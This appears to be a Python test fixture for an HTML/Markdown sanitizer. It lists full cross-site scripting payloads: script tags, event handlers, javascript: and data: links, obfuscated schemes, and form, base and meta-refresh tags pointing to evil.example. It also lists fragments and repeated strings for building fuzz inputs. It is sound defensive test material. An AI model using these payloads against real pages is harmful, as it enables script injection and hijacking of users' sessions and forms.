"""What somebody might type to break a page: whole attacks, pieces to make new ones of, signs to repeat."""

DANGEROUS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>", "<iframe src=javascript:alert(1)>", "<object data=x>",
    "<embed src=x>", "<link rel=stylesheet href=//evil.example>", "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example>",
    "<form action=//evil.example><input name=a></form>",
    "<button formaction=//evil.example popovertarget=x>x</button>", "<a href='javascript:alert(1)'>x</a>",
    "<a href=//evil.example>x</a>", "<a href='stage:referral' onclick=alert(1)>x</a>",
    "<p style='position:fixed'>x</p>", "<span class=x onmouseover=alert(1)>x</span>", "<!-- <script> -->",
    "<![CDATA[x]]>", "<?php x ?>", "<!DOCTYPE x>", "</main><script>alert(1)</script>",
    "<b\n onmouseover=alert(1)>x</b>", "<x/onclick=alert(1)>", "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "[x](//evil.example)",
    '[x](stage:referral"onclick="alert(1))', "[x](stage:referral 'onclick=alert(1)')",
    "![x](javascript:alert(1))", '![x](x"onerror="alert(1))', "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]", "[x][y]\n\n[y]: javascript:alert(1) 'x'",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>", "# <script>alert(1)</script>", "**<script>**alert(1)</script>",
    "\x02wzxhzdk:0\x03<script>", "\x02amp\x03lt;script>", "&amp;lt;script&amp;gt;",
    "<scr<script>ipt>alert(1)</script>", "*[x]: <script>", "[^1]: <script>", "{: onclick=alert(1) }",
    "~~~\n<script>\n~~~", "a <b>c</b> d", "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "[x](stage:referral)<script>alert(1)</script>",
    "[<img src=x onerror=alert(1)>](stage:referral)", "[`<script>`](stage:referral)",
]  # fmt: skip

PIECES = [
    "<", ">", "&", "&#", ";", '"', "'", "`", "*", "_", "[", "](", ")", "!", "#", "\n", "\n\n", "    ", "- ",
    "> ", "1. ", ":", "stage:referral", "javascript:", "script", "on", "=", "\\", "\x02", "\x03", "x", " ",
    "://",
]  # fmt: skip

REPEATED = [
    "[", "[ ", "[a", "[[a", "![", "](", "[](", "[a](", "[a](( ", "![a](", "[a][a]", "[a]: b\n", "]", "a[ b[",
    "*", "**a", "*a ", "_a", "***a", "`", "`a", "> ", "- ", "- a\n", "1. ", "# ", "&", "&#", "\\", "<", "<a ",
    "<!--", "\n", "    a\n\n", "(", "a b ",
]  # fmt: skip
